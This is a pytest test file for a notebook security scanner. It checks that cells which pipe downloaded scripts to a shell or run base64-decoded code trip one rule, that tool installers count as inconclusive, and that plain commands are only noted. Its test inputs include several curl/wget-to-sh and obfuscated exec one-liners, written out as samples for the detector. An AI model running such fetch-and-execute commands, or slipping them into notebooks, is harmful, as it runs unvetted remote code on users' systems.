from __future__ import annotations

import json

import pytest


def notebook(*sources: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": source.splitlines(True)} for source in sources]})


@pytest.mark.parametrize(
    "source",
    [
        "!curl http://x/y | bash",
        "%%bash\nwget -q http://x/y | sudo sh\n",
        "import os\nos.system('curl http://x | sh')",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "!echo aWQ= | base64 -d | sh",
    ],
)
def test_cells_that_hide_what_they_run_or_fetch_it_in_the_clear_fail(rules_of, source):
    assert "RGS-INS-009" in rules_of({"demo.ipynb": notebook("x = 1", source)})


@pytest.mark.parametrize(
    "source", ["!curl -fsSL https://example.org/install.sh | sh", "import os\nos.system('wget -qO- $URL | sh')"]
)
def test_installers_of_tools_are_inconclusive(rules_of, source):
    found = rules_of({"demo.ipynb": notebook("x = 1", source)})
    assert "RGS-INS-007" in found
    assert "RGS-INS-009" not in found


@pytest.mark.parametrize("source", ["!pip install torch", "%%bash\nls -l\n", "!wget http://x/data.csv"])
def test_ordinary_commands_are_noted(rules_of, source):
    found = rules_of({"demo.ipynb": notebook(source)})
    assert "RGS-INS-006" in found
    assert "RGS-INS-007" not in found


def test_arithmetic_is_nothing(rules_of):
    found = rules_of({"demo.ipynb": notebook("%matplotlib inline\nx = 1 + 1", "print(x)")})
    assert "RGS-INS-007" not in found


@pytest.mark.parametrize("content", ["{", "[]", '{"cells": 3}', '{"cells": [1, {"cell_type": "code", "source": 7}]}'])
def test_odd_notebooks_are_judged_without_an_error(rules_of, content):
    assert "RGS-PKG-003" not in rules_of({"demo.ipynb": content})
